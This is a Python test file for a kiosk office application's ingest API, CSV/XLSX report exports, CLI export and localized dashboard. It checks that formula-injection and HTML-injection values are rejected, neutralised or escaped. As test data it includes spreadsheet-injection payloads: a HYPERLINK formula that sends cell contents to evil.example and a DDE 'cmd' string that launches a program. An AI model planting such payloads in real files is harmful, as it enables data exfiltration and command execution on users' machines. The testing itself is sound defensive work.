"""No export carries a live formula, and the dashboard names activities instead of showing
their ids: ingest refuses formula-like activity ids and versions (over HTTP), and rows that
reached the database before that rule still come out of the CSV and XLSX downloads and of
`kiosk office export` as plain, neutralised text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, insert

from kiosk.office.auth import create_coordinator
from kiosk.office.models import ActivityTotal, Station
from tests.office.conftest import (
    SITE,
    STATION,
    activity_row,
    make_batch,
    post_batch,
    session_row,
    snapshot_tables,
)
from tests.office.test_cli import office as office_cli
from tests.office.test_dashboard import PASSWORD, Page, log_in

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
#: Activity ids as an older office could have stored them: each starts like a formula.
LEGACY_IDS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tquiz", "\rquiz"]


@pytest.mark.parametrize(
    "activity",
    [HYPERLINK, "+1", "-1", "@SUM(A1)", "\tquiz", "Quiz", "quiz game", "<b>quiz</b>", "_quiz"],
)
def test_ingest_ignores_a_row_whose_activity_id_is_not_an_id(
    http: httpx.Client, site_token: str, activity: str
) -> None:
    body = make_batch([session_row()], [activity_row(activity=activity), activity_row(hour=15)])
    answer = post_batch(http, site_token, body).json()
    assert answer["counts"] == {"imported": 2, "updated": 0, "unchanged": 0, "ignored": 1}
    (conflict,) = answer["conflicts"]
    assert conflict["code"] == "BAD_ACTIVITY" and conflict["index"] == 0
    assert "lowercase letters" in conflict["message"]


@pytest.mark.parametrize("activity", ["quiz", "memory", "my-game_2", "2048"])
def test_ingest_takes_real_activity_ids(http: httpx.Client, site_token: str, activity: str) -> None:
    answer = post_batch(http, site_token, make_batch([], [activity_row(activity=activity)]))
    assert answer.json()["counts"]["imported"] == 1


@pytest.mark.parametrize("version", ["=1+1", "+1.0", "-1", "@x", "1.0 beta", "", "1" * 33])
def test_ingest_rejects_a_body_whose_app_version_is_not_a_version(
    http: httpx.Client, site_token: str, office_engine: Engine, version: str
) -> None:
    before = snapshot_tables(office_engine)
    response = post_batch(http, site_token, make_batch(app_version=version))
    assert response.status_code == 422
    assert response.json()["error"] == "INVALID_BODY"
    assert "app_version" in response.json()["message"]
    assert snapshot_tables(office_engine) == before


@pytest.mark.parametrize("version", ["0.1.0", "1.2.0rc1", "1.0.0+ludza.2", "2026.12_1"])
def test_ingest_takes_real_versions(http: httpx.Client, site_token: str, version: str) -> None:
    assert post_batch(http, site_token, make_batch(app_version=version)).status_code == 200


def store_legacy_rows(engine: Engine) -> None:
    """Rows with formula-like activity ids, written the way an older office stored them."""
    now = datetime(2026, 11, 26, 8, 0, tzinfo=UTC)
    with engine.begin() as connection:
        for hour, activity in enumerate(LEGACY_IDS):
            connection.execute(
                insert(ActivityTotal).values(
                    site_id=SITE,
                    station=STATION,
                    db_instance_id="00000000-0000-4000-8000-000000000001",
                    date=now.date(),
                    hour=hour,
                    activity=activity,
                    session_kind="solo",
                    runs=1,
                    completed_runs=1,
                    seconds=60,
                    rev=1,
                    updated_at=now,
                )
            )
        connection.execute(
            insert(Station).values(
                site_id=SITE,
                station=STATION,
                first_seen_at=now,
                last_sync_at=now,
                app_version="=1+1",
                clock_skew_s=0,
                last_conflicts=0,
                conflicts_total=0,
            )
        )


def assert_no_formula_in_xlsx(data: bytes) -> list[str]:
    """Every cell of every sheet is a value, none a formula; the text cells are returned."""
    texts = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    texts.append(cell.value)
    return texts


def test_downloads_write_formula_like_ids_as_neutralised_text(
    http: httpx.Client, office_engine: Engine, site_token: str
) -> None:
    store_legacy_rows(office_engine)
    create_coordinator(office_engine, "anna", PASSWORD)
    log_in(http)
    query = "group_by=activity&lang=lv"
    csv_text = http.get(f"/reports/usage.csv?{query}").content.decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(csv_text, newline=""))][1:]
    assert sorted(cells) == sorted("'" + activity for activity in LEGACY_IDS)
    texts = assert_no_formula_in_xlsx(http.get(f"/reports/usage.xlsx?{query}").content)
    assert "'" + HYPERLINK in texts


def test_kiosk_office_export_writes_no_formula_either(
    office_url: str, office_engine: Engine, site_token: str, tmp_path: Path
) -> None:
    store_legacy_rows(office_engine)
    out = tmp_path / "usage.xlsx"
    result = office_cli(
        office_url, "export", "--by", "site,activity", "--format", "xlsx", "--out", str(out)
    )
    assert result.returncode == 0, result.stderr
    assert "'" + HYPERLINK in assert_no_formula_in_xlsx(out.read_bytes())
    printed = office_cli(office_url, "export", "--by", "activity")
    assert printed.returncode == 0, printed.stderr
    lines = list(csv.reader(io.StringIO(printed.stdout, newline="")))
    assert all(not line[0].startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines)
    assert ["'" + HYPERLINK] == [line[0] for line in lines if "HYPERLINK" in line[0]]


def test_the_dashboard_names_activities_in_its_language_and_escapes_unknown_ids(
    http: httpx.Client, office_engine: Engine, site_token: str
) -> None:
    body = make_batch([], [activity_row(activity="quiz"), activity_row(activity="draw")])
    assert post_batch(http, site_token, body).status_code == 200
    with office_engine.begin() as connection:
        connection.execute(
            insert(ActivityTotal).values(
                site_id=SITE,
                station=STATION,
                db_instance_id="00000000-0000-4000-8000-000000000002",
                date=datetime(2026, 11, 25).date(),
                hour=9,
                activity="<b>bold</b>",
                session_kind="solo",
                runs=1,
                completed_runs=0,
                seconds=10,
                rev=1,
                updated_at=datetime(2026, 11, 25, 9, tzinfo=UTC),
            )
        )
    create_coordinator(office_engine, "anna", PASSWORD)
    log_in(http)
    latvian = http.get("/?lang=lv&group_by=activity")
    rows = [row[0] for row in Page(latvian.text).rows]
    assert set(rows) == {"Cita nodarbība (<b>bold</b>)", "Viktorīna", "Zīmēšana"}
    assert "<b>bold</b>" not in latvian.text and "&lt;b&gt;bold&lt;/b&gt;" in latvian.text
    english = http.get("/?lang=en&group_by=activity")
    assert {row[0] for row in Page(english.text).rows} == {
        "Quiz",
        "Drawing board",
        "Other activity (<b>bold</b>)",
    }
    assert ">Quiz</option>" in english.text and ">quiz</option>" not in english.text
    lithuanian = http.get("/?lang=lt&group_by=activity")
    assert "Viktorina" in {row[0] for row in Page(lithuanian.text).rows}
